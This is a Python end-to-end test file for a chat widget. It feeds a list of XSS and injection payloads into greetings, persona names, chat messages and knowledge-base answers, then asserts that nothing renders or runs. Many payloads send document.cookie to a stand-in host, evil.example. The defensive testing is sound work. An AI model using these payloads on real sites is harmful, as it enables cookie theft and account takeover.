"""Texts that want to be more than text, in every place that others fill: nothing of it happens."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.browsing import WIDE, PageTenant
from tests.e2e.console_visit import ask, link, operator
from tests.e2e.widget_site import allow, site, visit

_CALL = "parent.top.owned=1;fetch('https://evil.example/?'+document.cookie)"
ATTACKS = (
    f"<script>{_CALL}</script>",
    f'<img src=x onerror="{_CALL}">',
    '<img src="https://evil.example/pixel.gif">',
    f'<svg onload="{_CALL}"></svg>',
    f"<svg><script>{_CALL}</script></svg>",
    f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
    '<iframe src="https://evil.example"></iframe>',
    f'<body onload="{_CALL}">',
    f'<input autofocus onfocus="{_CALL}">',
    f'<details open ontoggle="{_CALL}"><summary>x</summary></details>',
    f'<video><source onerror="{_CALL}"></video>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<style>@import 'https://evil.example/b.css';</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><button>Send</button></form>',
    f'<a href="javascript:{_CALL}">here</a>',
    f"[here](javascript:{_CALL})",
    "![pixel](https://evil.example/pixel.png)",
    "[![pixel](https://evil.example/p.png)](https://evil.example)",
    "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.svg">',
    f'"><script>{_CALL}</script>',
    f"'-{_CALL}-'",
    f"</textarea><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<math><mtext><script>{_CALL}</script></mtext></math>",
    f'<template><img src=x onerror="{_CALL}"></template>',
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"${{{_CALL}}}",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\u202e<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '{"type":"card","image_url":"https://evil.example/card.png"}',
)  # fmt: skip


@pytest.fixture
def address(page_tenant: PageTenant) -> Iterator[str]:
    with site(page_tenant.url, page_tenant.assistant_id) as where:
        allow(
            page_tenant,
            where,
            widget={"greeting": ATTACKS[0] + ATTACKS[2], "suggestions": [ATTACKS[1]]},
            persona={"name": ATTACKS[3]},
        )
        yield where


def test_no_text_of_others_runs_loads_or_leaves(
    browser: Browser, page_tenant: PageTenant, address: str
) -> None:
    new = {"email": "x@a.example", "name": "Robin {{7*7}} ${7*7}"}
    robin = page_tenant.call("POST", "/v1/operators", new)
    acting = {"operator_id": robin["operator_id"]}
    _teach(page_tenant)
    with visit(browser, page_tenant.url, address, WIDE) as here:
        here.open()
        here.say("What is the answer to riddle 3?")
        here.expect_lines("assistant", 1)
        here.chat.get_by_role("button", name="Source").first.click()
        here.say("Can I talk to a person, please?")
        expect(here.chat.locator(".person")).to_be_visible()
        [handoff] = page_tenant.call("GET", "/v1/handoffs")["data"]
        path = f"/v1/handoffs/{handoff['handoff_id']}"
        said = f"/v1/conversations/{handoff['conversation_id']}/messages"
        for attack in ATTACKS:
            page_tenant.call("POST", f"{path}/messages", acting | {"text": attack})
            page_tenant.call("POST", said, {"text": attack})
        here.expect_lines("operator", len(ATTACKS))
        here.expect_lines("contact", len(ATTACKS) + 2)
        shown = here.chat.locator(".log")
        assert shown.locator("img, script, iframe, style, form, object, video, base").count() == 0
        targets = shown.locator("a").evaluate_all("links => links.map((l) => l.protocol)")
        assert set(targets) <= {"https:", "http:"}
        assert here.page.evaluate("window.owned") is None
    with operator(browser, link(page_tenant, "Kim")) as page:
        page.get_by_label("Being answered").get_by_role("link").click()
        expect(page.locator("[data-author=operator]")).to_have_count(len(ATTACKS))
        page.goto(f"{page_tenant.url}/console/knowledge")
        expect(page.get_by_role("listitem").first).to_be_visible()
        loaded = page.locator("main").locator("img, script, iframe, style, object, video, base")
        assert loaded.count() == 0 and page.evaluate("window.owned") is None


def _teach(tenant: PageTenant) -> None:
    assistant = tenant.call("GET", f"/v1/assistants/{tenant.assistant_id}")
    path = f"/v1/knowledge-bases/{assistant['knowledge_base_ids'][0]}/documents"
    for at in range(0, len(ATTACKS), 6):
        question = f"What is the answer to riddle {at // 6}?"
        words = "It is this: " + " and ".join(ATTACKS[at : at + 6])
        tenant.call("POST", path, {"question": question, "answer": words})
    ask(tenant, "What is the answer to riddle 1?")
